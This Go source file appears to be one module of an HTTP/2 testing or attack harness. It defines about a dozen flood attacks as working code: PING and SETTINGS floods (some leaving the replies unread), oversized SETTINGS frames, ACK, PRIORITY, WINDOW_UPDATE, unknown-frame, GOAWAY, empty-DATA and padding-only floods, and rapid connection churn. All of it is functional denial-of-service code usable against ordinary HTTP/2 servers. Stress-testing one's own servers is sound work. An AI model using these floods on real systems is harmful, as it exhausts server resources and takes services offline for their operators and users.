package main

import (
	"bytes"
	"time"

	"golang.org/x/net/http2"
)

// Frames that cost nothing to send, or ask for an answer.

var floodAttacks = []attack{
	{name: "flood-ping", play: func(p *player) error {
		return flood(p, true, (*wire).ping)
	}},
	{name: "flood-ping-unread", play: func(p *player) error {
		return flood(p, false, (*wire).ping)
	}},
	{name: "flood-settings", play: func(p *player) error {
		return flood(p, true, func(w *wire, _ int) { w.settings() })
	}},
	{name: "flood-settings-unread", play: func(p *player) error {
		return flood(p, false, func(w *wire, _ int) { w.settings() })
	}},
	{name: "flood-settings-many", play: func(p *player) error {
		return flood(p, true, settingsMany)
	}},
	{name: "flood-ack", play: func(p *player) error {
		return flood(p, true, func(w *wire, i int) {
			if i%2 == 0 {
				w.frame(http2.FrameSettings, http2.FlagSettingsAck, 0, nil)
			} else {
				w.frame(http2.FramePing, http2.FlagPingAck, 0, make([]byte, 8))
			}
		})
	}},
	{name: "flood-priority", play: func(p *player) error {
		return flood(p, true, func(w *wire, i int) {
			w.frame(http2.FramePriority, 0, uint32(2*i+1)&(1<<31-1),
				dependsOn(uint32(2*i+3)&(1<<31-1)))
		})
	}},
	{name: "flood-window-update", play: func(p *player) error {
		return flood(p, true, func(w *wire, _ int) { w.grow(0, 1) })
	}},
	{name: "flood-unknown", play: func(p *player) error {
		return flood(p, true, func(w *wire, i int) {
			w.frame(http2.FrameType(0x10+i%0xe0), 0xff, uint32(i%5),
				make([]byte, i%64))
		})
	}},
	{name: "flood-goaway", play: func(p *player) error {
		return flood(p, true, func(w *wire, _ int) {
			w.frame(http2.FrameGoAway, 0, 0, make([]byte, 8+1000))
		})
	}},
	{name: "flood-empty-data", play: func(p *player) error {
		return onStream(p, func(w *wire, id uint32) {
			w.frame(http2.FrameData, 0, id, nil)
		})
	}},
	{name: "flood-padding", play: func(p *player) error {
		// Nothing but padding, which the windows count.
		body := append([]byte{255}, make([]byte, 255)...)
		return onStream(p, func(w *wire, id uint32) {
			if n, err := w.room(id, len(body)); err == nil && n == len(body) {
				w.frame(http2.FrameData, http2.FlagDataPadded, id, body)
			}
		})
	}},
	{name: "flood-stream-window-update", play: func(p *player) error {
		return onStream(p, func(w *wire, id uint32) { w.grow(id, 1) })
	}},
	{name: "flood-connections", play: floodConnections},
}

// flood sends one kind of frame as fast as the pace allows. Unread, the answers
// pile up.
func flood(p *player, read bool, next func(w *wire, i int)) error {
	open := p.deaf
	if read {
		open = func() (*wire, error) { return p.join() }
	}
	w, err := open()
	if err != nil {
		return err
	}
	defer w.close()
	for i := 0; w.ok(); i++ {
		next(w, i)
	}
	return errOver
}

// onStream sends frames on one open stream.
func onStream(p *player, next func(w *wire, id uint32)) error {
	w, err := p.join()
	if err != nil {
		return err
	}
	defer w.close()
	id := w.call(pathPut, false)
	for w.ok() {
		next(w, id)
	}
	return errOver
}

func (w *wire) ping(int) {
	w.frame(http2.FramePing, 0, 0, []byte("abuse!!!"))
}

// settingsMany has as many settings in a frame as there is room for.
func settingsMany(w *wire, i int) {
	all := make([]http2.Setting, 2700)
	for j := range all {
		all[j] = http2.Setting{ID: http2.SettingInitialWindowSize,
			Val: uint32(65535 + (i+j)%2)}
	}
	w.settings(all...)
}

// floodConnections comes and goes, with a call or without one.
func floodConnections(p *player) error {
	for i := 0; !p.over(); i++ {
		conn, err := p.dial()
		if err != nil {
			return err
		}
		switch i % 3 {
		case 1:
			_, _ = conn.Write([]byte(http2.ClientPreface))
		case 2:
			_, _ = conn.Write(bytes.Repeat([]byte("GET"), 100))
		}
		_ = conn.Close()
		p.wait(4 * time.Millisecond)
	}
	return errOver
}
